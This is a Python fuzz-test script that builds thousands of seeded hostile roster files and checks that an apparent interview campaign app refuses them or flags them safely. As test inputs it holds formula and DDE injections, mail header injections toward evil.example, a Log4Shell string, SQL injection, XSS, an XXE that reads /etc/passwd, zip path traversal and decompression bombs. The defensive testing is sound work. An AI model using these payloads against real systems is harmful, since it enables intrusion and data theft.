"""`python -m tests.faults.rosters`: thousands of hostile rosters; seeded, each the same for the same number.

Every file goes the way of a campaign: guessed, read, checked, kept, and whoever is ready is written to. What may come
of it is a refusal or rows with faults, in words of both languages. A crash, a kept formula, a kept number of a resident
or a mail with a header that somebody smuggled in is a fault.
"""

from __future__ import annotations

import argparse
import io
import os
import random
import resource
import sys
import tempfile
import time
import traceback
import zipfile
from collections import Counter
from collections.abc import Callable
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path

from openpyxl import Workbook
from sqlalchemy import delete, select, update

from interview_ai import campaign_reading, campaigns, dispatch, tokens
from interview_ai.database import EVERYWHERE, reading, transaction
from interview_ai.migrate import migrate
from interview_ai.rules import roster
from interview_ai.rules.cells import is_formula
from interview_ai.tables import Campaign, CampaignRow, Mail
from tests import campaigning as made
from tests.campaigning import Region
from tests.conftest import forget

Chance = random.Random
MEMORY_BYTES = 2_000_000_000  # of the whole process: a bomb that goes off ends it
HEADS = [
    "이름",
    "이메일",
    "학번",
    "학과",
    "학년",
    "휴대전화",
    "언어",
    "생년월일",
    "사진",
    "주민등록번호",
    "name",
    "e-mail",
    "비고",
]
EVIL = [
    "=1+1",
    '=HYPERLINK("http://evil.example","여기")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "'=1+1",
    "﹢1",
    "김민지\r\nBcc: all@evil.example",
    "김민지\nSubject: x",
    "a@example.org\r\nBcc: b@evil.example",
    "a@example.org,b@evil.example",
    '"a\nb"@example.org',
    "<a@example.org>",
    "a@example.org%0aBcc:x@evil.example",
    "\u2028Bcc: x@evil.example",
    "\x85Bcc: x",
    "김\u202e민지",
    "\x00이름",
    "\x1b[2J",
    "010203-3234567",
    "０１０２０３－３２３４５６７",
    "0102034234567",
    "x" * 1000,
    "가" * 300,
    "{{7*7}}",
    "${jndi:ldap://x}",
    "'; DROP TABLE campaigns;--",
    "<script>alert(1)</script>",
    "😀" * 50,
    "\ud800",
    "",
    " ",
    '"',
    '""""',
    "a@" + "b" * 250 + ".org",
    "한글@예시.한국",
    "a@예시.한국",
]


def cells(chance: Chance) -> list[str]:
    """One row: mostly a person, sometimes what nobody is called."""
    n = chance.randrange(10_000)
    row = [f"학생{n}", f"s{n}@example.org", f"2021{n}", "기계공학과", "4학년", "010-1234-5678", "ko", "2003-01-02"]
    for _ in range(chance.choice((0, 0, 1, 1, 2, 5))):
        row[chance.randrange(len(row))] = chance.choice(EVIL)
    return row[: chance.choice((1, 2, 5, 8, 8, 8))] + [chance.choice(EVIL)] * chance.choice((0, 0, 1, 3))


def table(chance: Chance) -> list[list[str]]:
    """Some rows, mostly under heads."""
    heads = HEADS[:8] + [chance.choice([*HEADS, *EVIL])] * chance.choice((0, 1, 2))
    if chance.random() < 0.3:
        chance.shuffle(heads)
    rows = [cells(chance) for _ in range(chance.choice((0, 1, 3, 12, 40)))]
    return ([heads] if chance.random() < 0.85 else []) + rows


def quoted(cell: str, chance: Chance) -> str:
    """A cell as CSV has it; sometimes as no program would write it."""
    how = chance.random()
    if how < 0.05:
        return f'"{cell}'
    if how < 0.1:
        return f'{cell}"x"'
    return '"' + cell.replace('"', '""') + '"' if how < 0.6 or any(sign in cell for sign in ',"\n\r\t;') else cell


def text_file(chance: Chance) -> bytes:
    """CSV in some encoding with some separator and some end of line."""
    separator, end = chance.choice(",;\t|"), chance.choice(("\n", "\r\n", "\r"))
    text = end.join(separator.join(quoted(cell, chance) for cell in row) for row in table(chance))
    encoding = chance.choice(
        ("utf-8", "utf-8-sig", "cp949", "cp949", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1")
    )
    return text.encode(encoding, errors=chance.choice(("replace", "ignore")))


def workbook(chance: Chance) -> bytes:
    """XLSX as openpyxl writes it, formulas and errors and numbers in it."""
    book = Workbook()
    sheet = book.worksheets[0]
    for row in table(chance):
        kept = ["".join(sign for sign in cell if sign >= " " or sign in "\t\n") for cell in row]
        values: list[object] = [cell.encode("utf-8", "ignore").decode()[:30_000] for cell in kept]
        if chance.random() < 0.2:
            values.append(chance.choice((1e300, -5, 20210001, 1012345678, True, None)))
        sheet.append(values)
    if chance.random() < 0.2:
        sheet.sheet_state = "hidden"
        book.create_sheet("둘째").append(["이름", "이메일"])
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out) as source:
        return packed({name: source.read(name) for name in source.namelist() if name != "docProps/core.xml"})


def packed(parts: dict[str, bytes]) -> bytes:
    """A zip file without the hour at which it was made."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made_of:
        for name, content in parts.items():
            made_of.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


BAD_XML = [
    b"<",
    b"",
    b"<worksheet>",
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet>&b;</worksheet>',
    b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><worksheet/>',
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    + b'<row r="1"><c r="A1" t="s"><v>99999</v></c><c r="ZZZZZ9" t="d"><v>x</v></c></row></sheetData></worksheet>',
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    + b'<row r="-5"><c r="!!" t="n"><v>1e999</v></c></row></sheetData></worksheet>',
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row>'
    + b"<c/>" * 50_000
    + b"</row></sheetData></worksheet>",
    b'<x xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + b"<a>" * 5000,
    "<worksheet>가</worksheet>".encode("utf-16"),
    b"\xff\xfe\x00" * 100,
]


def broken_workbook(chance: Chance) -> bytes:
    """A workbook of which one part was put in another's place, doubled, taken away or spoilt."""
    with zipfile.ZipFile(io.BytesIO(workbook(chance))) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    spoilt = chance.choice(list(parts))
    content = parts.pop(spoilt)
    how = chance.randrange(5)
    if how == 1:
        content = chance.choice(BAD_XML)
    elif how == 2:
        content = mutated(content, chance)
    elif how == 3:
        content = content[: chance.randrange(len(content) + 1)]
    elif how == 4:
        content = chance.choice(list(parts.values()))
    if how:
        parts[spoilt] = content
    if chance.random() < 0.3:
        parts["xl/vbaProject.bin"] = chance.randbytes(5000)
        parts["xl/externalLinks/externalLink1.xml"] = chance.choice(BAD_XML)
    if chance.random() < 0.2:
        parts["../../../tmp/evil"] = b"x"
    whole = packed(parts)
    return mutated(whole, chance) if chance.random() < 0.3 else whole


def bomb(chance: Chance) -> bytes:
    """Kilobytes that would become gigabytes, or a file that is mostly one cell, one row or one column."""
    kind = chance.randrange(8)
    if kind == 0:
        return packed_part("xl/sharedStrings.xml", b"<si/>", 30_000_000)
    if kind == 1:
        return packed_part("xl/worksheets/sheet1.xml", b"<row><c/></row>", 8_000_000)
    if kind == 2:
        return packed_part("xl/worksheets/sheet1.xml", b"<c/>", 30_000_000)
    if kind == 3:
        return packed_part("xl/styles.xml", b"<xf/>", 10_000_000)
    if kind == 4:
        return b'name,email\n"' + b"a" * chance.choice((2_000_000, 300_000)) + b'",a@example.org\n'
    if kind == 5:
        return b",".join([b"name", b"email"] * 5000) + b"\n" + b",".join([b"A", b"a@example.org"] * 5000)
    if kind == 6:
        return b'"' + b"\n" * 400_000
    return b"\n" * 500_000 + b"name,email\nA,a@example.org\n"


def packed_part(name: str, piece: bytes, size: int) -> bytes:
    """A workbook with one part that is so many bytes of the same piece."""
    with zipfile.ZipFile(io.BytesIO(workbook(random.Random(1)))) as source:
        parts = {other: source.read(other) for other in source.namelist()}
    return packed(parts | {name: b"<x>" + piece * (size // len(piece)) + b"</x>"})


def mutated(content: bytes, chance: Chance) -> bytes:
    """With some bytes other than they were, or without its end."""
    data = bytearray(content or b"\0")
    for _ in range(chance.choice((1, 2, 8))):
        at = chance.randrange(len(data))
        match chance.randrange(4):
            case 0:
                data[at] ^= 1 << chance.randrange(8)
            case 1:
                data[at : at + 8] = chance.randbytes(8)
            case 2:
                del data[at : at + chance.choice((1, 16, 256))]
            case _:
                data[at:at] = b"\0" * chance.choice((1, 4, 64))
        data = data or bytearray(b"\0")
    return bytes(data[: chance.randrange(1, len(data) + 1)] if chance.random() < 0.2 else data)


def junk(chance: Chance) -> bytes:
    """No table at all."""
    kinds = (
        b"%PDF-1.7\n",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"PK\x03\x04",
        b"\x89PNG\r\n",
        b"\x7fELF",
        b"{}",
        b"<html>",
        b"",
    )
    return chance.choice(kinds) + chance.randbytes(chance.choice((0, 1, 100, 10_000)))


KINDS: tuple[tuple[int, Callable[[Chance], bytes]], ...] = (
    (40, text_file),
    (14, lambda chance: mutated(text_file(chance), chance)),
    (12, workbook),
    (24, broken_workbook),
    (2, bomb),
    (8, junk),
)


def hostile(number: int) -> bytes:
    """The file with this number, the same in every process."""
    chance = random.Random(number)
    made_by = chance.choices([make for _, make in KINDS], [weight for weight, _ in KINDS])[0]
    return made_by(chance)


def one(region: Region, number: int) -> str:
    """What came of one file: a state. Raises AssertionError for what must never be."""
    data = hostile(number)
    chance = random.Random(number)
    settings = {"proof": chance.choice(("none", "birth_year")), "channel": chance.choice(("mail", "sms"))}
    found = made.read(region.seoyeon, region.opening_id, data, **settings)
    if found.state == "matching":
        with transaction(EVERYWHERE) as session:
            free = [place for place, head in enumerate(found.heads) if not head["refused"]]
            if len(free) > 1:
                columns = dict(zip(("name", "email", "department"), free, strict=False))
                campaigns.match(session, region.seoyeon, found.id, columns)
        made.campaigning.read(found.id)
        found = made.campaign(found.id)
    state = found.state
    assert state in ("preview", "refused", "matching"), state
    check_kept(found)
    if state == "preview" and number % 5 == 0:
        state = sent(region, found)
    with transaction(EVERYWHERE) as session:
        session.execute(
            delete(CampaignRow).where(CampaignRow.campaign_id == found.id, CampaignRow.invitation_id.is_(None))
        )
    return state


def check_kept(found: Campaign) -> None:
    """Nothing is kept that a spreadsheet would run or a mail's head could take; each fault is said twice."""
    if found.state == "refused":
        assert found.fault and found.fault["ko"] and found.fault["en"] and found.fault["ko"] != found.fault["en"]
    texts = [str(head["name"]) for head in found.heads] + [text for head in found.heads for text in head["samples"]]
    for row in made.rows(found.id):
        assert (row.outcome == "faulty") == bool(row.faults)
        for fault in row.faults or []:
            assert fault["ko"] and fault["en"] and fault["ko"] != fault["en"], fault
        texts += [
            row.name,
            row.email,
            row.phone or "",
            row.student_number or "",
            row.department or "",
            row.cohort or "",
        ]
    for text in texts:
        foreign = text.startswith("+") and text[1:].isdigit()
        assert foreign or not is_formula(text), repr(text)
        assert not roster.unseen(text), repr(text)
        assert not roster.holds_resident_number([text]), repr(text)


def sent(region: Region, found: Campaign) -> str:
    """Confirms and sends, and reads every mail as a server would."""
    if not any(row.outcome == "ready" for row in made.rows(found.id)):
        return "nobody ready"
    made.confirmed(region.seoyeon, found.id)
    with transaction(EVERYWHERE) as session:
        session.execute(
            update(Campaign).where(Campaign.id == found.id).values(per_minute=6000, next_at=found.created_at)
        )
    dispatch.step(20)
    with reading(EVERYWHERE) as session:
        mails = session.scalars(select(Mail).where(Mail.cause.like("invitation:%"))).all()
        for mail in mails:
            check_mail(mail)
    with transaction(EVERYWHERE) as session:
        session.execute(delete(Mail).where(Mail.cause.like("invitation:%")))
        session.execute(update(Campaign).where(Campaign.id == found.id).values(state="sent"))
    return f"sent {len(mails) > 0}"


def check_mail(mail: Mail) -> None:
    """A mail of it holds the headers that were put in and no other."""
    written = EmailMessage(policy=SMTP)
    written["To"], written["Subject"] = mail.recipient, mail.subject
    written.set_content(mail.body)
    read = message_from_bytes(written.as_bytes())
    names = {name.lower() for name in read}
    assert names <= {"to", "subject", "content-type", "content-transfer-encoding", "mime-version"}, names
    assert mail.recipient.count("@") == 1 and "," not in mail.recipient, mail.recipient


def main() -> int:
    """Exits 1 where a file was more than refused or faulty."""
    parser = argparse.ArgumentParser(description=main.__doc__)
    parser.add_argument("--count", type=int, default=3000)
    parser.add_argument("--first", type=int, default=0)
    given = parser.parse_args()
    with tempfile.TemporaryDirectory() as name:
        os.environ["INTERVIEW_HOME"] = name
        forget()
        tokens.make_secret(Path(name) / "secret")
        migrate()
        region = made.region()
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_BYTES, MEMORY_BYTES))
        campaign_reading.ring = lambda _: None
        came: Counter[str] = Counter()
        bad, began = [], time.perf_counter()
        for number in range(given.first, given.first + given.count):
            try:
                came[one(region, number)] += 1
            except Exception:  # noqa: BLE001 (whatever it is, it is what this looks for)
                bad.append(number)
                traceback.print_exc()
    print(f"{given.count} hostile rosters in {time.perf_counter() - began:.0f} s: {dict(came.most_common())}")
    print(f"{len(bad)} crashes, kept formulas or smuggled headers: {bad[:20]}")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
